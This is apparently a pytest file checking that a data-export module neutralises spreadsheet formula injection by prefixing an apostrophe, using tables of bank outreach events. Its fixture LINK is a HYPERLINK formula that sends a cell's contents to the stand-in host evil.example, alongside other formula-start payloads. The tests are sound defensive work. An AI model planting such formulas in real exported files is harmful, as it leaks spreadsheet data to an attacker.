"""The data-set writers never write a live spreadsheet formula (issue 11 item 5, OWASP CSV injection)."""

from __future__ import annotations

import pandas as pd
import pytest
from openpyxl import load_workbook

from analysis.io import append_tables, load_dataset, read_file, write_dataset
from analysis.schemas import empty_frame

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


def minimal_tables(theme: str = "反诈宣传", cost=50.0) -> dict[str, pd.DataFrame]:
    """The four required tables plus one event whose theme is ``theme`` (typed as the contract says)."""
    def frame(table, **cols):
        return pd.concat([empty_frame(table), pd.DataFrame(cols)], ignore_index=True).astype(empty_frame(table).dtypes)

    return {
        "branches": frame("branches", branch_id=["B01"], name=["城东支行"], city=["杭州"]),
        "staff": frame("staff", staff_id=["S1"], branch_id=["B01"], role=["teller"]),
        "communities": frame("communities", community_id=["C1"], branch_id=["B01"], name=["@阳光小区"],
                             households=[1200]),
        "people": frame("people", person_id=["P1"], community_id=["C1"], is_bank_customer=[True]),
        "events": frame("events", event_id=["E1"], branch_id=["B01"], community_id=["C1"], kind=["booth"],
                        theme=[theme], starts_at=[pd.Timestamp("2026-09-05 09:00")],
                        ends_at=[pd.Timestamp("2026-09-05 11:00")], cost=[cost]),
    }


def test_csv_cells_that_start_a_formula_are_written_with_an_apostrophe(tmp_path):
    write_dataset(minimal_tables(LINK, cost=-50.0), tmp_path)
    text = (tmp_path / "events.csv").read_text(encoding="utf-8-sig")
    # the CSV quotes the cell (it holds quotes and a comma); inside, the text starts with ' not =
    assert "\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"点我\"\")\"" in text
    assert ",=HYPERLINK" not in text and ",\"=HYPERLINK" not in text
    assert "'@阳光小区" in (tmp_path / "communities.csv").read_text(encoding="utf-8-sig")
    # a negative number stays a number (it is a value, not text): -50.0, not '-50.0
    assert ",-50.0," in text and "'-50" not in text


@pytest.mark.parametrize("value", ["=1+1", "+1-2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "＝1+1"])
def test_every_formula_start_of_the_owasp_rule_is_neutralized(tmp_path, value):
    write_dataset(minimal_tables(value), tmp_path)
    raw = read_file(tmp_path / "events.csv", "events")[0]
    assert raw["theme"].iloc[0] == "'" + value  # one cell, the tab or carriage return kept inside it
    assert len(raw) == 1


def test_reading_back_gives_the_text_with_its_apostrophe(tmp_path):
    """What load_dataset gives back is the written text: the apostrophe is part of the value from then on."""
    write_dataset(minimal_tables(LINK), tmp_path)
    ds = load_dataset(tmp_path)
    assert ds["events"]["theme"].tolist() == ["'" + LINK]
    assert ds["communities"]["name"].tolist() == ["'@阳光小区"]
    assert ds["events"]["cost"].tolist() == [50.0]
    # ordinary text is untouched
    write_dataset(minimal_tables("反诈宣传 - 社区场"), tmp_path / "plain")
    assert load_dataset(tmp_path / "plain")["events"]["theme"].tolist() == ["反诈宣传 - 社区场"]


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    write_dataset(minimal_tables(LINK), tmp_path, fmt="xlsx")
    ws = load_workbook(tmp_path / "events.xlsx").active
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("theme") + 1)
    assert cell.data_type == "s" and cell.value == "'" + LINK
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert load_dataset(tmp_path)["events"]["theme"].tolist() == ["'" + LINK]


def test_parquet_keeps_the_value_as_it_is(tmp_path):
    write_dataset(minimal_tables(LINK), tmp_path, fmt="parquet")
    assert load_dataset(tmp_path)["events"]["theme"].tolist() == [LINK]


def test_a_plain_number_as_text_in_a_number_column_stays_readable(tmp_path):
    tables = minimal_tables()
    tables["events"] = tables["events"].astype({"cost": object}).assign(cost=["-50"])
    write_dataset(tables, tmp_path)
    assert read_file(tmp_path / "events.csv", "events")[0]["cost"].tolist() == ["-50"]
    # read as the number -50 (refused by the contract's range rule, not as a text that is no number)
    problems = load_dataset(tmp_path, errors="report").problems
    assert problems[["table", "column", "rule"]].values.tolist() == [["events", "cost", "range"]]


def test_append_tables_neutralizes_and_a_repeated_import_is_recognised(tmp_path):
    answers = pd.DataFrame({"response_id": ["R1", "R1"], "question_id": ["q1", "q2"], "value": ["=1+1", "ok"]})
    keys = {"survey_answers": ["response_id", "question_id", "value"]}
    append_tables({"survey_answers": answers}, tmp_path, keys, groups={"survey_answers": "response_id"})
    raw = read_file(tmp_path / "survey_answers.csv", "survey_answers")[0]
    assert raw["value"].tolist() == ["'=1+1", "ok"]
    # the same export imported again: its rows are found identical (compared neutralized), nothing added
    append_tables({"survey_answers": answers}, tmp_path, keys, groups={"survey_answers": "response_id"})
    again = read_file(tmp_path / "survey_answers.csv", "survey_answers")[0]
    assert again["value"].tolist() == ["'=1+1", "ok"]
